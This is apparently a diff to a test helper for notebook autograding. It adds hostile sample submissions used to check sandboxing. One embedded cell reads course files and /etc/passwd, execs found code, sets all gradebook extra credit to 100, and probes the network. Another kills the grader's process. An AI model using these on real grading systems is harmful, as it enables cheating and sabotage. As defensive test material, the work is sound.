@@ -37,6 +37,38 @@ def {signature}:
 '''
 
 
+_THEFT = """\
+import glob
+import socket
+import sqlite3
+import sys
+
+sys.path[:0] = [{root!r}, {root!r} + "/solutions"]
+for path in [*glob.glob({root!r} + "/**/*", recursive=True), "/etc/passwd"]:
+    try:
+        text = open(path).read()
+        exec(text[text.index("def ") :])
+    except Exception:
+        pass
+try:
+    gradebook = sqlite3.connect("file:" + {root!r} + "/course/gradebook.db?mode=rw", uri=True, timeout=1)
+    gradebook.execute("update grade set extra_credit = 100")
+    gradebook.commit()
+except Exception:
+    pass
+try:
+    socket.create_connection(("1.1.1.1", 443), timeout=1)
+except OSError:
+    pass"""
+
+_WRECK = """\
+import os
+import signal
+
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(os.getpid(), signal.SIGKILL)"""
+
+
 @dataclass(frozen=True)
 class Student:
     """One member of the sample class.
@@ -49,18 +81,22 @@ class Student:
         What they hand in.
     mistake : str or None
         The declared mistake that they make, if it is one of those.
+    hostile : bool
+        Whether to run it needs a sandbox.
     """
 
     id: str
     notebook: NotebookNode
     mistake: str | None = None
+    hostile: bool = False
 
 
 def sample_class(course, assignment, whole=None):
     """Return the sample class of an assignment.
 
-    Right; right but written differently; blank; half done; six with one declared mistake each; one who tries to fake
-    the mark; one whose notebook is mangled (cells duplicated, deleted, stripped of their metadata).
+    Right; right but written differently; blank; half done; six with one declared mistake each; one whose notebook is
+    mangled (cells duplicated, deleted, stripped of their metadata); and three who are hostile: one fakes the mark, one
+    looks for answers and for the gradebook, one has done half of the work and kills whatever it can.
 
     Parameters
     ----------
@@ -89,16 +125,20 @@ def sample_class(course, assignment, whole=None):
         students.append(Student(f"demo-{mistake.id}", _filled(release, wrong), mistake.id))
     if not whole:
         return students
-    students.append(Student("demo-half", _filled(release, {name: right[name] for name in names[: len(names) // 2]})))
+    half = _filled(release, {name: right[name] for name in names[: len(names) // 2]})
+    students.append(Student("demo-half", half))
     faker = {exercise.name: _fake(course, exercise) for exercise in exercises}
-    students.append(Student("demo-faker", _faked(_filled(release, faker))))
     students.append(Student("demo-mangled", _mangled(_filled(release, right))))
+    students.append(Student("demo-faker", _faked(_filled(release, faker)), hostile=True))
+    theft = _THEFT.format(root=str(course.root))
+    students.append(Student("demo-thief", _with_a_cell(release, theft), hostile=True))
+    students.append(Student("demo-wrecker", _with_a_cell(half, _WRECK), hostile=True))
     return students
 
 
-def write_class(course, assignment):
-    """Write the sample class into nbgrader's submitted folder and return it."""
-    students = sample_class(course, assignment)
+def write_class(course, assignment, hostile=True):
+    """Write the sample class, with or without its hostile members, into nbgrader's submitted folder and return it."""
+    students = [student for student in sample_class(course, assignment) if hostile or not student.hostile]
     for student in students:
         folder = course.workspace / "submitted" / student.id / assignment
         folder.mkdir(parents=True, exist_ok=True)
@@ -165,6 +205,14 @@ def _faked(notebook):
             cell.metadata.tags = ["skip-execution"]
             cell.source = "100.0"
             cell.outputs = [new_output("execute_result", data={"text/plain": "100.0"}, execution_count=1)]
+    return notebook
+
+
+def _with_a_cell(notebook, text):
+    """Return a copy with a cell of the student's own before the first exercise."""
+    notebook = copy.deepcopy(notebook)
+    first = next(index for index, cell in enumerate(notebook.cells) if source.is_solution(cell))
+    notebook.cells.insert(first, new_code_cell(text))
     return notebook
 
 
